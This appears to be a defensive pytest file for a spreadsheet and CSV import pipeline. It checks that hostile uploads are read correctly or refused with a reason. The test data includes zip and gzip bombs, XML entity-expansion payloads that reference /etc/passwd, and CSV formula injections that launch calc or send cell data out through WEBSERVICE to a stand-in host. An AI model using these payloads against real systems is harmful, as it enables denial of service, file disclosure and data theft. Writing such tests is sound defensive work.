"""Hostile files: each is read right or given up with a reason, in bounded time and memory, and
costs the others nothing.
"""

from __future__ import annotations

import gzip
import io
import struct
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import build
import pytest
from build import zip_bytes
from openpyxl import Workbook
from workbooks import write_ods

from pipelines.exports import find_exports
from pipelines.staging_pool import Result, stage_many
from pipelines.workspace import Workspace

LIMITS = {
    "IGATE_MAX_UNPACKED_MB": "40",
    "IGATE_MAX_ARCHIVE_FILES": "50",
    "IGATE_MAX_CELL_CHARACTERS": "100000",
    "IGATE_MAX_FILE_MEMORY_MB": "700",
    "IGATE_MAX_FILE_SECONDS": "60",
}
LIST = build.lines(build.dossiers(3))
PLAIN = build.lines(build.dossiers(3, address="ấp Một"))
ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "'
    + "&a;" * 10
    + '"><!ENTITY c "'
    + "&b;" * 10
    + '"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
)

# Ten thousand million letters, if anybody wrote them out.
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY l0 "aaaaaaaaaa">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + '<!ENTITY % p SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
)
FORMULAS = build.lines(
    build.dossiers(3, status="=cmd|' /C calc'!A0", field='=WEBSERVICE("http://thu.example/"&B2)')
)


def csv_bytes(rows: list[build.Line] = LIST) -> bytes:
    return build.csv_bytes(rows)


def xlsx_bytes(rows: list[build.Line] = LIST) -> bytes:
    book, content = Workbook(), io.BytesIO()
    for row in rows:
        book.worksheets[0].append(list(row))
    book.save(content)
    return content.getvalue()


def with_part(name: str, change: Callable[[bytes], bytes]) -> bytes:
    """A good workbook, one part of which is changed, or added."""
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes())) as good:
        parts = {each: good.read(each) for each in good.namelist()}
    return zip_bytes({**parts, name: change(parts.get(name, b""))})


def sheet_with(old: bytes, new: bytes) -> bytes:
    def change(xml: bytes) -> bytes:
        assert old in xml
        return xml.replace(old, new, 1)

    return with_part("xl/worksheets/sheet1.xml", change)


def ods_with(change: Callable[[bytes], bytes]) -> bytes:
    """A good .ods, the content of which is changed."""
    with tempfile.TemporaryDirectory() as folder:
        path = write_ods(Path(folder, "a.ods"), {"x": LIST})
        with zipfile.ZipFile(path) as good:
            parts = {name: good.read(name) for name in good.namelist()}
    return zip_bytes(parts | {"content.xml": change(parts["content.xml"])})


def locked_zip() -> bytes:
    """An archive whose one member states that it is encrypted."""
    content = bytearray(zip_bytes({"a.csv": csv_bytes()}))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def far_cell(row: int, column: str) -> bytes:
    cell = f'<c r="{column}{row}" t="inlineStr"><is><t>x</t></is></c>'
    return sheet_with(b"</sheetData>", f'<row r="{row}">{cell}</row></sheetData>'.encode())


def flipped() -> bytes:
    """A workbook in which a byte of the rows has changed, so that only a checksum can tell."""
    content = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_bytes())) as good,
        zipfile.ZipFile(content, "w", zipfile.ZIP_STORED) as stored,
    ):
        for name in good.namelist():
            stored.writestr(name, good.read(name))
    assert b"0001</t>" in content.getvalue()
    return content.getvalue().replace(b"0001</t>", b"0009</t>")


def page(table: str) -> bytes:
    return f"<html><body><table>{table}</table></body></html>".encode()


def page_rows() -> str:
    return "".join(
        "<tr>" + "".join(f"<td>{'' if cell is None else cell}</td>" for cell in row) + "</tr>"
        for row in LIST
    )


def locked_office_file() -> bytes:
    """An OLE file whose only part is an encrypted package, as Office saves under a password."""

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        text = name.encode("utf-16-le")
        return struct.pack(
            "<64sHBBIII16sI8s8sIII", text, len(text) + 2 if name else 0, kind, 1, 2**32 - 1,
            2**32 - 1, child, b"", 0, b"", b"", start, size, 0,
        )  # fmt: skip

    header = struct.pack(
        "<8s16sHHHHHHIIIIIIIII", bytes.fromhex("d0cf11e0a1b11ae1"), b"", 0x3E, 3, 0xFFFE, 9, 6, 0,
        0, 0, 1, 1, 0, 4096, 2**32 - 2, 0, 2**32 - 2,
    ) + struct.pack("<II", 0, 0) + b"\xff" * (4 * 108)  # fmt: skip
    fat = struct.pack("<II", 2**32 - 3, 2**32 - 2)
    fat += b"".join(struct.pack("<I", number + 1) for number in range(2, 9))
    fat += struct.pack("<I", 2**32 - 2)
    directory = entry("Root Entry", 5, 1, 2**32 - 2, 0) + entry(
        "EncryptedPackage", 2, 2**32 - 1, 2, 4096
    )
    directory += entry("", 0, 2**32 - 1, 0, 0) * 2
    return header + fat.ljust(512, b"\xff") + directory + b"\x5a" * 4096


def overlapping_zip() -> bytes:
    """Many names in the directory for one and the same packed megabytes."""
    packed = zip_bytes({"0.csv": csv_bytes() + b" " * (30 << 20)})
    start = packed.index(b"PK\x01\x02")
    entry, end = packed[start : packed.index(b"PK\x05\x06")], packed[packed.index(b"PK\x05\x06") :]
    entries = b"".join(entry.replace(b"0.csv", f"{n}.csv".encode()) for n in range(9))
    end = end[:8] + struct.pack("<HHI", 9, 9, len(entries)) + end[16:]
    return packed[:start] + entries + end


HUGE = b"," * 14 + b"\r\n"
READ_RIGHT = "3 dossiers"

# File → its content, and what must become of it: the reason for which it is given up.
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "good.csv": (csv_bytes, READ_RIGHT),
    "empty.csv": (lambda: b"", "rỗng"),
    "bom-only.csv": (lambda: b"\xef\xbb\xbf\r\n", "rỗng"),
    "bomb.zip": (lambda: zip_bytes({"a.csv": csv_bytes() + HUGE * (3 << 20)}), "quá 40 MB"),
    "bomb.csv.gz": (lambda: gzip.compress(csv_bytes() + HUGE * (3 << 20)), "quá 40 MB"),
    "nested.zip": (lambda: zip_bytes({"b.zip": zip_bytes({"a.csv": csv_bytes()})}), "nằm trong tệp nén"),
    "nested.zip.gz": (lambda: gzip.compress(zip_bytes({"a.csv": csv_bytes()})), "nằm trong tệp nén"),
    "overlapping.zip": (overlapping_zip, "quá 40 MB"),
    "many.zip": (lambda: zip_bytes({f"{n}.csv": csv_bytes() for n in range(51)}), "quá 50 tệp"),
    "nothing.zip": (lambda: zip_bytes({}), "không chứa tệp xuất nào"),
    "only-hidden.zip": (lambda: zip_bytes({"__MACOSX/a.csv": b"x"}), "không chứa tệp xuất nào"),
    "cut.zip": (lambda: zip_bytes({"a.csv": csv_bytes() * 200})[:-300], "hỏng hoặc bị cắt dở"),
    "cut.csv.gz": (lambda: gzip.compress(csv_bytes() * 200)[:-300], "hỏng hoặc bị cắt dở"),
    "bomb.xlsx": (
        lambda: with_part("xl/worksheets/sheet1.xml", lambda xml: xml + b" " * (50 << 20)),
        "quá 40 MB",
    ),
    "entities.xlsx": (
        lambda: with_part(
            "xl/worksheets/sheet1.xml", lambda xml: ENTITIES.encode() + xml.replace(b"<v>1<", b"<v>&c;&f;<")
        ),
        "không mở được|3 dossiers",
    ),
    "shared-entities.xlsx": (
        lambda: with_part(
            "xl/sharedStrings.xml", lambda xml: ENTITIES.encode() + xml.replace("Hộ tịch".encode(), b"&c;&f;")
        ),
        "không mở được|3 dossiers",
    ),
    "entities.xls": (
        lambda: ENTITIES.replace("x [", "html [").encode() + page(page_rows().replace("Hộ tịch", "&c;&f;")),
        READ_RIGHT,
    ),
    "laughs.xlsx": (
        lambda: with_part(
            "xl/worksheets/sheet1.xml", lambda xml: LAUGHS.encode() + xml.replace(b"<v>1<", b"<v>&l9;<")
        ),
        "không mở được|3 dossiers",
    ),
    "laughs.ods": (
        lambda: ods_with(
            lambda xml: xml.replace(b"?>", b"?>" + LAUGHS.encode(), 1).replace("Hộ tịch".encode(), b"&l9;&f;")
        ),
        "không mở được|3 dossiers",
    ),
    "laughs.xls": (
        lambda: LAUGHS.replace("x [", "html [").encode() + page(page_rows().replace("Hộ tịch", "&l9;&f;")),
        READ_RIGHT,
    ),
    "formulas.xlsx": (lambda: xlsx_bytes(FORMULAS), READ_RIGHT),
    "formulas.csv": (lambda: csv_bytes(FORMULAS), READ_RIGHT),
    "locked.zip": (locked_zip, "có mật khẩu"),
    "declared.xlsx": (lambda: sheet_with(b'ref="A1:O4"', b'ref="A1:XFD1048576"'), READ_RIGHT),
    "far.xlsx": (lambda: far_cell(1048576, "XFD"), "ô ở quá xa|bộ nhớ"),
    "far-row.xlsx": (lambda: far_cell(1048576, "CV"), "ô ở quá xa|bộ nhớ"),
    "cut.xlsx": (lambda: xlsx_bytes()[:-400], "hỏng hoặc bị cắt dở"),
    "flipped.xlsx": (flipped, "hỏng hoặc bị cắt dở"),
    "locked.xlsx": (locked_office_file, "có mật khẩu"),
    "ole.xls": (lambda: locked_office_file()[:600], "không mở được"),
    "macro.xlsm": (lambda: with_part("xl/vbaProject.bin", lambda _: b"\xcc\x61" * 900), READ_RIGHT),
    "links.xlsx": (
        lambda: with_part(
            "xl/externalLinks/externalLink1.xml",
            lambda _: b'<externalLink><externalBook r:id="file:///etc/passwd"/></externalLink>',
        ),
        READ_RIGHT,
    ),
    "pdf.xlsx": (lambda: b"%PDF-1.7 ...", "tệp PDF"),
    "picture.csv": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(99), "tệp ảnh"),
    "word.xlsx": (
        lambda: zip_bytes({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}),
        "không mở được",
    ),
    "long-line.csv": (lambda: csv_bytes() + b"x" * 3_000_000, "dòng dài quá 100.000|ô dài quá 100.000"),
    "long-cell.csv": (lambda: csv_bytes() + b'"' + b"x\n" * 100_000 + b'"', "ô dài quá 100.000"),
    "open-quote.csv": (
        lambda: csv_bytes().replace(b"Tr\xe1\xba\xa7n", b'"Tr\xe1\xba\xa7n', 1) + csv_bytes(LIST[1:]),
        "5 dossiers",  # the row that the quote has merged is rejected
    ),
    "swallowed.csv": (
        lambda: csv_bytes(PLAIN) + csv_bytes(PLAIN[1:]).replace(b"1,H", b'"1,H', 1),
        "dòng 5 có dấu ngoặc kép mở mà không đóng",
    ),
    "nul.csv": (lambda: csv_bytes().replace(b"H59", b"H\0\0"), "không phải tệp văn bản"),
    "noise.csv": (lambda: bytes(range(256)) * 50, "không phải tệp văn bản"),
    "wide.csv": (lambda: csv_bytes() + b"," * 90_000 + b"\r\n", "quá 1.000 cột"),
    "cut.xls": (lambda: page(page_rows())[:-30], "bị cắt dở"),
    "deep.xls": (lambda: page("<div>" * 5000 + page_rows()), "quá phức tạp"),
    "span.xls": (
        lambda: page(page_rows() + '<tr><td colspan="99999999" rowspan="99999999">x</td></tr>'),
        READ_RIGHT,
    ),
    "xlsx.csv": (xlsx_bytes, READ_RIGHT),
    "page.xlsx": (lambda: page(page_rows()), READ_RIGHT),
    "text.xls": (csv_bytes, READ_RIGHT),
}  # fmt: skip


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """What became of each file, all staged at once; an export in an archive by the archive."""
    data = tmp_path_factory.mktemp("hostile")
    (data / "raw").mkdir()
    for name, (content, _) in FILES.items():
        (data / "raw" / name).write_bytes(content())
    with pytest.MonkeyPatch.context() as patch:
        for name, value in LIMITS.items():
            patch.setenv(name, value)
        done: list[str] = []
        files = find_exports(Workspace(data)).files
        results = stage_many(files, data / "staging", frozenset(), done.append)
    assert sorted(done) == sorted(raw.name for raw in files)
    # A worker that was killed leaves its scratch to the next run, and nothing else that is not whole.
    kept = [path for path in (data / "staging").iterdir() if not path.match(".staging-*")]
    assert {path.suffix for path in kept if path.name != "hashes.json"} == {".parquet"}
    return {raw.name: said(results[raw.name]) for raw in files}


def said(result: Result) -> str:
    if isinstance(result, Exception):
        return str(result)
    rows = [row for staged in result for row in build.staged_rows(staged)]
    assert "root:" not in repr(rows), "a file of this machine was read"
    return f"{sum(row['dossier_code'] is not None for row in rows)} dossiers"


@pytest.mark.parametrize("name", FILES)
def test_each_is_read_right_or_given_up_with_a_reason(name: str, outcomes: dict[str, str]) -> None:
    mine = {key: said for key, said in outcomes.items() if key.split("/")[0] == name}
    assert mine
    for reason in mine.values():
        assert any(each in reason for each in FILES[name][1].split("|")), reason
        assert "\n" not in reason


def test_a_file_that_takes_too_long_is_given_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("IGATE_MAX_FILE_SECONDS", "6")
    (tmp_path / "raw").mkdir()
    slow = page(page_rows() + "<tr><td>x</td></tr>" * 2_500_000)
    (tmp_path / "raw" / "slow.xls").write_bytes(slow)
    (tmp_path / "raw" / "good.csv").write_bytes(csv_bytes())
    files = find_exports(Workspace(tmp_path)).files
    results = stage_many(files, tmp_path / "staging", frozenset(), lambda name: None)
    assert said(results["good.csv"]) == READ_RIGHT
    assert "đọc quá 6 giây" in said(results["slow.xls"])


def test_a_line_of_two_gigabytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """After good rows, so that only reading it all can tell; its bytes take no room on the disk."""
    monkeypatch.setenv("IGATE_MAX_FILE_MEMORY_MB", "1000")
    (tmp_path / "raw").mkdir()
    with (tmp_path / "raw" / "line.csv").open("wb") as file:
        file.write(csv_bytes(build.lines(build.dossiers(20_000))))
        file.truncate(file.tell() + (2 << 30))
    (tmp_path / "raw" / "good.csv").write_bytes(csv_bytes())
    files = find_exports(Workspace(tmp_path)).files
    results = stage_many(files, tmp_path / "staging", frozenset(), lambda name: None)
    assert said(results["good.csv"]) == READ_RIGHT
    assert "dòng dài quá" in said(results["line.csv"])


@pytest.mark.parametrize("wrong", ["0", "-1", "nhiều", "1.5"])
def test_a_limit_that_is_no_number_is_a_wrong_command(
    wrong: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pipelines.errors import CommandError

    monkeypatch.setenv("IGATE_MAX_FILE_SECONDS", wrong)
    (tmp_path / "raw").mkdir()
    (tmp_path / "raw" / "a.csv").write_bytes(csv_bytes())
    files = find_exports(Workspace(tmp_path)).files
    with pytest.raises(CommandError, match="IGATE_MAX_FILE_SECONDS"):
        stage_many(files, tmp_path / "staging", None, lambda name: None)
